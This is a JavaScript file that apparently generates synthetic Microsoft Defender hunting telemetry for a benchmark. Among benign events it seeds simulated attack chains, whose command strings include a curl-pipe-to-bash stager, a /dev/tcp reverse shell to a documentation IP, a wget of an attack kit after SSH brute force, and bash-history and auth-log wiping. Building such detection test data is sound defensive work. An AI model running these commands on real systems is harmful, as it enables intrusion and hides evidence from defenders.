    let i = a.length - 1;
    while (i > 0) {
      const p = (i - 1) >> 1;
      if (a[p].at < t.at || (a[p].at === t.at && a[p].seq < t.seq)) break;
      a[i] = a[p];
      a[p] = t;
      i = p;
    }
  }
  peek() {
    return this.items[0];
  }
  pop() {
    const a = this.items;
    const top = a[0];
    const last = a.pop();
    if (a.length) {
      a[0] = last;
      let i = 0;
      for (;;) {
        const l = 2 * i + 1;
        const r = l + 1;
        let m = i;
        const less = (x, y) => a[x].at < a[y].at || (a[x].at === a[y].at && a[x].seq < a[y].seq);
        if (l < a.length && less(l, m)) m = l;
        if (r < a.length && less(r, m)) m = r;
        if (m === i) break;
        [a[i], a[m]] = [a[m], a[i]];
        i = m;
      }
    }
    return top;
  }
}

const SECOND = 10_000_000;
const MINUTE = 60 * SECOND;

/**
 * Record lines (without line end) of a generated stream.
 * @param {{rows: number, seed?: number, devices?: number, start?: string}} options
 */
export function* generateLines(options) {
  const total = options.rows;
  if (!Number.isSafeInteger(total) || total < 1) throw new RangeError('rows must be a positive integer');
  const f = new Fleet(options);
  const rng = f.rng;
  const devices = f.devices;
  BASE_MS = f.startMs;
  const start = 0;
  const fleetRate = devices.length * RATE_PER_DEVICE; // rows per second
  const span = (total / fleetRate) * SECOND; // expected duration in ticks
  const heap = new Heap();
  let seq = 0;
  const schedule = (at, dev, kind, data) => heap.push({ at: Math.round(at), seq: seq++, dev, kind, data });

  for (const dev of devices) {
    const jitter = rng.int(0, 59) * SECOND;
    schedule(start + jitter, dev, 'deviceInfo');
    schedule(start + jitter + rng.int(1, 9) * SECOND, dev, 'networkInfo');
    if (dev.linux) {
      schedule(start + rng.int(0, 9) * MINUTE + 9 * SECOND, dev, 'sa1');
      schedule(start + rng.int(0, 4) * MINUTE + 1 * SECOND, dev, 'cron');
      schedule(start + rng.int(5, 55) * MINUTE, dev, 'mdatp');
      if (dev.kind === 'indexer') schedule(start + rng.int(0, 120) * SECOND, dev, 'lucene');
      if (dev.index % 10 === 3) schedule(start + rng.int(1, 60) * MINUTE, dev, 'backup');
    }
  }
  // Attack chains: each kind once per ~330k rows (at least once), spread over the run.
  const chains = Math.max(1, Math.round(total / 330_000));
  const linuxDevs = devices.filter((d) => d.linux && d.kind !== 'indexer');
  const kinds = ['reverseShell', 'bruteForce', 'historyWipe'];
  for (let c = 0; c < chains; c++) {
    kinds.forEach((kind, k) => {
      const at = start + span * ((c + (k + 1) / (kinds.length + 1)) / chains);
      schedule(at, linuxDevs[(c * 7 + k * 13 + 5) % linuxDevs.length], kind);
    });
  }

  let now = start;
  const out = [];
  const meanGap = SECOND / fleetRate;

  const record = (table, ticks, props) => {
    const received = ticks + rng.int(40, 170) * SECOND + rng.int(0, SECOND - 1);
    const time = received + rng.int(60, 110) * SECOND + rng.int(0, SECOND - 1);
    let p = JSON.stringify(props);
    if (table === 'DeviceInfo' || table === 'DeviceNetworkInfo') p = p.replace(/"__BIG__(\d+)"/, '$1');
    return `{"time":"${iso(time, true)}","tenantId":"${TENANT}","operationName":"Publish","category":"AdvancedHunting-${table}","_TimeReceivedBySvc":"${iso(received, true)}","properties":${p},"Tenant":"DefaultTenant"}`;
  };
  const emit = (table, _dev, ticks, props) => {
    out.push(record(table, ticks, props));
  };

  const linuxParentFor = (dev) => f.randomParent(dev);

  const background = (dev, t) => {
    const T = t;
    const kind = dev.linux
      ? rng.weighted([
          [44, 'proc'],
          [20, 'file'],
          [22, 'net'],
          [6, 'logon'],
          [3, 'other'],
        ])
      : rng.weighted([
          [36, 'proc'],
          [20, 'file'],
          [20, 'net'],
          [6, 'logon'],
          [12, 'reg'],
          [3, 'other'],
        ]);
    const parent = linuxParentFor(dev);
    switch (kind) {
      case 'proc': {
        const image = dev.linux ? rng.pick(LINUX_BINARIES) : rng.pick(WINDOWS_BINARIES);
        const args = dev.linux
          ? rng.pick([
              '',
              ' -la /var/log',
              ' --no-pager -u nginx --since "5 min ago"',
              ' -czf /tmp/logs.tgz /var/log/nginx',
              ' status',
              ' -s https://api.github.com/repos',
              ' -h',
              ' -e',
              ' /etc/os-release',
            ])
          : rng.pick([
              '',
              ' -k netsvcs -p -s Schedule',
              ' /c "echo %DATE% > C:\\Temp\\stamp.txt"',
              ' -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1',
              ' /force',
              ' query wuauserv',
            ]);
        const cmd = dev.linux ? `${basename(image)}${args}` : `"${basename(image)}"${args}`;
        emit('DeviceProcessEvents', dev, T, f.processRow(dev, T, parent, image, cmd));
        return 1;
      }
      case 'file': {
        const action = rng.weighted([
          [5, 'FileCreated'],
          [3, 'FileModified'],
          [2, 'FileDeleted'],
          [1, 'FileRenamed'],
        ]);
        const path = dev.linux
          ? rng.pick([
              '/var/log/nginx/access.log',
              '/var/lib/apt/lists/partial/archive.ubuntu.com_ubuntu_dists_jammy_InRelease',
              '/tmp/tmp',
              '/var/cache/man/index.db',
              '/etc/ssl/certs/ca-certificates.crt',
              '/home/deploy/app/releases/current/config.yml',
            ]) + (rng.chance(0.3) ? `.${rng.int(1, 999)}` : '')
          : rng.pick([
              'C:\\Windows\\Temp\\MpCmdRun.log',
              'C:\\Users\\jdoe\\AppData\\Local\\Temp\\~DF1A2B.tmp',
              'C:\\ProgramData\\Microsoft\\Windows\\WER\\Temp\\WER3F1.tmp.xml',
              'C:\\Users\\jdoe\\Documents\\Q3 report.docx',
            ]);
        const extra =
          action === 'FileRenamed'
            ? { PreviousFileName: `${basename(path)}.partial`, PreviousFolderPath: path.replace(/[^/\\]+$/, '') }
            : {};
        emit('DeviceFileEvents', dev, T, f.fileRow(dev, T, parent, action, path, extra));
        return 1;
      }
      case 'net': {
        const action = rng.weighted([
          [6, 'ConnectionSuccess'],
          [1, 'ConnectionFailed'],
          [2, 'InboundConnectionAccepted'],
          [1, 'ConnectionRequest'],
        ]);
        emit(
          'DeviceNetworkEvents',
          dev,
          T,
          f.networkRow(
            dev,
            T,
            parent,
            action,
            rng.pick(REMOTE_HOSTS),
            rng.pick([443, 443, 443, 80, 22, 5432, 9200, 1514]),
          ),
        );
        return 1;
      }
      case 'logon': {
        const success = rng.chance(0.9);
        if (dev.linux) {
          const sshd = {
            path: '/usr/sbin/sshd',
            pid: dev.pid++,
            ppid: 1,
            parent: 'systemd',
            cmd: `sshd: azureuser [priv]`,
            user: LINUX_USERS[0],
          };
          emit(
            'DeviceLogonEvents',
            dev,
            T,
            f.logonRow(dev, T, sshd, success ? 'LogonSuccess' : 'LogonFailed', LINUX_USERS[1], {
              LogonType: 'Network',
              RemoteIP: rng.pick(['10.0.1.4', '10.0.2.17']),
              RemotePort: rng.int(40_000, 60_000),
              Terminal: 'ssh',
            }),
          );
        } else {
          const lsass = {
            path: 'C:\\Windows\\System32\\lsass.exe',
            pid: 700 + dev.index,
            ppid: 600,
            parent: 'wininit.exe',
            cmd: 'lsass.exe',
            user: 'system',
          };
          emit(
            'DeviceLogonEvents',
            dev,
            T,
            f.logonRow(dev, T, lsass, success ? 'LogonSuccess' : 'LogonFailed', rng.pick(WINDOWS_USERS.slice(3)), {
              LogonType: rng.pick(['Interactive', 'Network', 'Unlock', 'RemoteInteractive']),
            }),
          );
        }
        return 1;
      }
      case 'reg':
        emit('DeviceRegistryEvents', dev, T, f.registryRow(dev, T, parent));
        return 1;
      default: {
        const row = f.head(
          dev,
          T,
          dev.linux
            ? rng.pick(['PTraceDetected', 'SensitiveFileRead', 'AntivirusScanCompleted'])
            : rng.pick(['PowerShellCommand', 'DnsQueryResponse', 'AntivirusScanCompleted', 'ScheduledTaskUpdated']),
        );
        f.initiating(row, dev, T, parent);
        row.AdditionalFields =
          row.ActionType === 'PowerShellCommand'
            ? JSON.stringify({
                Command: rng.pick(['Get-Service', 'Get-ChildItem', 'Import-Module', 'Test-NetConnection']),
              })
            : row.ActionType === 'SensitiveFileRead'
              ? '{"FileName":"/etc/shadow"}'
              : '{}';
        emit('DeviceEvents', dev, T, f.tail(row, dev));
        return 1;
      }
    }
  };

  const runTask = (task) => {
    const dev = task.dev;
    let t = task.at;
    const step = () => {
      t += rng.int(1_000, 3_000_000);
      return t;
    };
    const root = LINUX_USERS[0];
    let n = 0;
    switch (task.kind) {
      case 'deviceInfo':
        emit('DeviceInfo', dev, t, f.deviceInfoRow(dev, t));
        n = 1;
        schedule(task.at + 60 * MINUTE, dev, 'deviceInfo');
        break;
      case 'networkInfo':
        for (const row of f.networkInfoRows(dev, t)) {
          emit('DeviceNetworkInfo', dev, t, row);
          n++;
        }
        schedule(task.at + 60 * MINUTE, dev, 'networkInfo');
        break;
      case 'cron': {
        // cron opens a root PAM session and runs the job: logon + process rows.
        const cron = {
          path: '/usr/sbin/cron',
          pid: dev.cronPid,
          ppid: 1,
          parent: 'systemd',
          cmd: '/usr/sbin/cron -f -P',
          user: root,
        };
        const child = { ...cron, pid: dev.pid++, ppid: dev.cronPid, parent: 'cron' };
        emit(
          'DeviceProcessEvents',
          dev,
          t,
          f.processRow(dev, t, cron, '/usr/sbin/cron', '/usr/sbin/cron -f -P', { user: root }),
        );
        emit(
          'DeviceLogonEvents',
          dev,
          step(),
          f.logonRow(dev, t, child, 'LogonSuccess', root, { LogonType: 'Local', Terminal: 'cron' }),
        );
        emit(
          'DeviceProcessEvents',
          dev,
          step(),
          f.processRow(
            dev,
            t,
            child,
            '/usr/bin/dash',
            '/bin/sh -c "command -v debian-sa1 > /dev/null && debian-sa1 1 1"',
            { user: root },
          ),
        );
        n = 3;
        schedule(task.at + 5 * MINUTE, dev, 'cron');
        break;
      }
      case 'sa1': {
        const dash = {
          path: '/usr/bin/dash',
          pid: dev.pid++,
          ppid: 1,
          parent: 'systemd',
          cmd: '/bin/sh /usr/lib/sysstat/sa1 1 1',
          user: root,
        };
        emit('DeviceEvents', dev, t, f.scriptRow(dev, t, dash, SCRIPTS.sa1));
        const dash2 = { ...dash, pid: dev.pid++, cmd: '/bin/sh /usr/lib/sysstat/debian-sa1 1 1' };
        emit('DeviceEvents', dev, step(), f.scriptRow(dev, t, dash2, SCRIPTS.debianSa1));
        n = 2;
        schedule(task.at + 10 * MINUTE, dev, 'sa1');
        break;
      }
      case 'mdatp': {
        // Defender's own inventory and log4j scripts, run by wdavdaemon (effective group mdatp).
        const wdav = {
          path: '/opt/microsoft/mdatp/sbin/wdavdaemon',
          pid: dev.wdavPid,
          ppid: 1,
          parent: 'systemd',
          cmd: 'wdavdaemon edr 12 11 --log_level info',
          user: root,
        };
        const mdatpGroup = { Name: 'mdatp', PosixGroupId: 998 };
        for (const [script, body, args] of [
          ['get_jar_data_list.py', SCRIPTS.getJar, '--jar-path / --output /tmp/jar_data.json'],
          ['find_python_package.py', SCRIPTS.findPython, '--search-dirs /usr/lib/python3/dist-packages /usr/local/lib'],
          [
            'open_files.py',
            SCRIPTS.openFiles,
            '--scan-id log4j_handlers --marker-path /var/opt/microsoft/mdatp/log4j.marker',
          ],
        ]) {
          const cmd = `/bin/python3 /opt/microsoft/mdatp/conf/scripts/${script} ${args}`;
          const proc = f.processRow(dev, step(), wdav, '/usr/bin/python3.10', cmd, {
            user: root,
            effectiveGroup: mdatpGroup,
          });
          emit('DeviceProcessEvents', dev, t, proc);
          const py = {
            path: '/usr/bin/python3.10',
            pid: proc.ProcessId,
            ppid: dev.wdavPid,
            parent: 'wdavdaemon',
            cmd,
            user: root,
          };
          emit('DeviceEvents', dev, step(), f.scriptRow(dev, t, py, body));
          n += 2;
          if (script === 'open_files.py') {
            // sh -c "lsof …" then exec: same pid, different image (exec-process-replacement).
            const sh = f.processRow(
              dev,
              step(),
              py,
              '/usr/bin/dash',
              '/bin/sh -c "lsof -a -c java -c javaw -d mem -F pn"',
              { user: root, effectiveGroup: mdatpGroup },
            );
            emit('DeviceProcessEvents', dev, t, sh);
            const shp = {
              path: '/usr/bin/dash',
              pid: sh.ProcessId,
              ppid: py.pid,
              parent: 'python3.10',
              cmd: sh.ProcessCommandLine,
              user: root,
            };
            emit(
              'DeviceProcessEvents',
              dev,
              step(),
              f.processRow(dev, t, shp, '/usr/bin/lsof', 'lsof -a -c java -c javaw -d mem -F pn', {
                user: root,
                effectiveGroup: mdatpGroup,
                samePid: true,
              }),
            );
            emit(
              'DeviceProcessEvents',
              dev,
              step(),
              f.processRow(dev, t, py, '/usr/bin/ps', '/bin/ps -A -o comm,pid,ppid,uid,args', {
                user: root,
                effectiveGroup: mdatpGroup,
              }),
            );
            n += 3;
          }
        }
        schedule(task.at + 60 * MINUTE, dev, 'mdatp');
        break;
      }
      case 'lucene': {
        // OpenSearch merges segments: bursts of Lucene file deletions by the indexer JVM.
        const user = LINUX_USERS[5];
        const java = {
          path: '/usr/share/wazuh-indexer/jdk/bin/java',
          pid: dev.javaPid,
          ppid: 1,
          parent: 'systemd',
          cmd: '/usr/share/wazuh-indexer/jdk/bin/java -Xshare:auto -Dopensearch.networkaddress.cache.ttl=60 -XX:+UseG1GC -Xms1g -Xmx1g -Djava.io.tmpdir=/tmp/opensearch-1812 org.opensearch.bootstrap.OpenSearch -Ecluster.name=wazuh-cluster',
          user,
        };
        const gen = (dev.segGen++).toString(36);
        const idx = rng.hex(22);
        for (const ext of ['tip', 'doc', 'tim', 'pos', 'tmd', 'dvd', 'dvm', 'fdt', 'fdx', 'nvd']) {
          const codec = ext.startsWith('dv') ? 'Lucene90' : 'Lucene912';
          emit(
            'DeviceFileEvents',
            dev,
            step(),
            f.fileRow(
              dev,
              t,
              java,
              'FileDeleted',
              `/var/lib/wazuh-indexer/nodes/0/indices/${idx}/0/index/_${gen}_${codec}_0.${ext}`,
            ),
          );
          n++;
        }
        schedule(task.at + rng.int(30, 240) * SECOND, dev, 'lucene');
        break;
      }
      case 'backup': {
        const cron = {
          path: '/usr/bin/bash',
          pid: dev.pid++,
          ppid: dev.cronPid,
          parent: 'cron',
          cmd: '/bin/bash /usr/local/sbin/rotate-backups',
          user: root,
        };
        emit('DeviceEvents', dev, t, f.scriptRow(dev, t, cron, ADMIN_SCRIPT));
        n = 1;
        schedule(task.at + 30 * MINUTE, dev, 'backup');
        break;
      }
      case 'reverseShell': {
        // Web shell → reverse shell: php-fpm spawns bash, which connects out and fetches a stager.
        const www = LINUX_USERS[3];
        const php = {
          path: '/usr/sbin/php-fpm8.1',
          pid: dev.pid++,
          ppid: 900,
          parent: 'php-fpm8.1',
          cmd: 'php-fpm: pool www',
          user: www,
        };
        const sh = f.processRow(
          dev,
          t,
          php,
          '/usr/bin/dash',
          "sh -c 'curl -fsSL http://203.0.113.77:8080/x.sh | bash'",
          { user: www, cwd: '/var/www/html' },
        );
        emit('DeviceProcessEvents', dev, t, sh);
        const shp = {
          path: '/usr/bin/dash',
          pid: sh.ProcessId,
          ppid: php.pid,
          parent: 'php-fpm8.1',
          cmd: sh.ProcessCommandLine,
          user: www,
        };
        emit(
          'DeviceProcessEvents',
          dev,
          step(),
          f.processRow(dev, t, shp, '/usr/bin/curl', 'curl -fsSL http://203.0.113.77:8080/x.sh', {
            user: www,
            cwd: '/var/www/html',
          }),
        );
        const bash = f.processRow(dev, step(), shp, '/usr/bin/bash', 'bash -i >& /dev/tcp/203.0.113.77/4444 0>&1', {
          user: www,
          cwd: '/var/www/html',
        });
        emit('DeviceProcessEvents', dev, t, bash);
        const bp = {
          path: '/usr/bin/bash',
          pid: bash.ProcessId,
          ppid: shp.pid,
          parent: 'dash',
          cmd: bash.ProcessCommandLine,
          user: www,
        };
        emit('DeviceEvents', dev, step(), f.scriptRow(dev, t, bp, REVERSE_SHELL_SCRIPT));
        emit(
          'DeviceNetworkEvents',
          dev,
          step(),
          f.networkRow(dev, t, bp, 'ConnectionSuccess', '203.0.113.77', 4444, { RemoteUrl: '' }),
        );
        emit('DeviceFileEvents', dev, step(), f.fileRow(dev, t, bp, 'FileCreated', '/tmp/.x.sh'));
        emit(
          'DeviceProcessEvents',
          dev,
          step(),
          f.processRow(dev, t, bp, '/tmp/.x.sh', '/tmp/.x.sh', { user: www, cwd: '/tmp' }),
        );
        emit(
          'DeviceProcessEvents',
          dev,
          step(),
          f.processRow(dev, t, bp, '/usr/bin/crontab', 'crontab -', { user: www, cwd: '/tmp' }),
        );
        n = 8;
        break;
      }
      case 'bruteForce': {
        // 40 failed SSH logons from one public address within minutes, then a success.
        const sshd = {
          path: '/usr/sbin/sshd',
          pid: dev.pid++,
          ppid: 1,
          parent: 'systemd',
          cmd: 'sshd: root [priv]',
          user: root,
        };
        for (let i = 0; i < 40; i++) {
          emit(
            'DeviceLogonEvents',
            dev,
            step(),
            f.logonRow(
              dev,
              t,
              sshd,
              'LogonFailed',
              rng.pick([root, LINUX_USERS[1], { name: 'admin', uid: 1999 }, { name: 'oracle', uid: 1999 }]),
              { LogonType: 'Network', RemoteIP: '198.51.100.23', RemotePort: rng.int(30_000, 65_000), Terminal: 'ssh' },
            ),
          );
          n++;
        }
        emit(
          'DeviceLogonEvents',
          dev,
          step(),
          f.logonRow(dev, t, sshd, 'LogonSuccess', root, {
            LogonType: 'Network',
            RemoteIP: '198.51.100.23',
            RemotePort: rng.int(30_000, 65_000),
            Terminal: 'ssh',
          }),
        );
        const bash = {
          path: '/usr/bin/bash',
          pid: dev.pid++,
          ppid: sshd.pid,
          parent: 'sshd',
          cmd: '-bash',
          user: root,
        };
        emit(
          'DeviceProcessEvents',
          dev,
          step(),
          f.processRow(dev, t, sshd, '/usr/bin/bash', '-bash', { user: root, terminal: '/dev/pts/3' }),
        );
        emit(
          'DeviceProcessEvents',
          dev,
          step(),
          f.processRow(dev, t, bash, '/usr/bin/wget', 'wget -q http://198.51.100.23/kit.tgz -O /dev/shm/k.tgz', {
            user: root,
            terminal: '/dev/pts/3',
          }),
        );
        n += 3;
        break;
      }
      case 'historyWipe': {
        const user = LINUX_USERS[1];
        const bash = { path: '/usr/bin/bash', pid: dev.pid++, ppid: 2000, parent: 'sshd', cmd: '-bash', user };
        emit('DeviceEvents', dev, t, f.scriptRow(dev, t, bash, HISTORY_WIPE_SCRIPT));
        emit(
          'DeviceProcessEvents',
          dev,
          step(),
          f.processRow(dev, t, bash, '/usr/bin/rm', 'rm -f /root/.bash_history /home/azureuser/.bash_history', {
            user,
            terminal: '/dev/pts/1',
          }),
        );
        emit('DeviceFileEvents', dev, step(), f.fileRow(dev, t, bash, 'FileDeleted', '/home/azureuser/.bash_history'));
        emit(
          'DeviceProcessEvents',
          dev,
          step(),
          f.processRow(dev, t, bash, '/usr/bin/ln', 'ln -sf /dev/null /home/azureuser/.bash_history', {
            user,
            terminal: '/dev/pts/1',
          }),
        );
        emit(
          'DeviceProcessEvents',
          dev,
          step(),
          f.processRow(dev, t, bash, '/usr/bin/sed', 'sed -i /203.0.113.77/d /var/log/auth.log', {
            user,
            terminal: '/dev/pts/1',
          }),
        );
        n = 5;
        break;
      }
      default:
        throw new Error(`unknown task ${task.kind}`);
    }
    return n;
  };

  let yielded = 0;
  for (;;) {
    now += Math.max(1, Math.round(-Math.log(1 - rng.next()) * meanGap));
    while (heap.peek().at <= now) runTask(heap.pop());
    background(devices[Math.floor(rng.next() * devices.length)], now);
    for (const line of out) {
      yield line;
      if (++yielded >= total) return;
    }
    out.length = 0;
  }
}

/** Write a generated stream to `path` (CRLF line ends), streaming with back-pressure. */
export async function generateFile(path, options) {
  mkdirSync(dirname(path), { recursive: true });
  const stream = createWriteStream(path);
  let rows = 0;
  let bytes = 0;
  let chunk = [];
  let chunkChars = 0;
  const flush = async () => {
    if (!chunk.length) return;
    const text = chunk.join('');
    chunk = [];
    chunkChars = 0;
    bytes += Buffer.byteLength(text, 'utf8');
    if (!stream.write(text)) await new Promise((resolve) => stream.once('drain', resolve));
  };
  try {
    for (const line of generateLines(options)) {
      chunk.push(line, '\r\n');
      chunkChars += line.length + 2;
      rows++;
      if (chunkChars >= 1 << 20) await flush();
    }
    await flush();
  } finally {
    await new Promise((resolve, reject) => stream.end((err) => (err ? reject(err) : resolve())));
  }
  return { path, rows, bytes };
}

function parseArgs(argv) {
  const args = { rows: 100_000, seed: 1, devices: 120, out: undefined };
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i];
    const v = () => argv[++i];
    if (a === '--rows') args.rows = Number(v());
    else if (a === '--seed') args.seed = Number(v());
    else if (a === '--devices') args.devices = Number(v());
    else if (a === '--out') args.out = v();
    else if (a === '-h' || a === '--help') {
      console.log('node bench/generate.mjs --rows N [--out FILE] [--seed N] [--devices N]');
      process.exit(0);
    } else throw new Error(`unknown argument ${a}`);
  }
  return args;
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const args = parseArgs(process.argv.slice(2));
  const out = args.out ?? join(HERE, 'data', `fleet-${args.rows}.ndjson`);
  const t0 = performance.now();
  const r = await generateFile(out, args);
  const s = (performance.now() - t0) / 1000;
  console.log(`${r.path}: ${r.rows} rows, ${(r.bytes / 1e6).toFixed(1)} MB in ${s.toFixed(1)} s`);
}
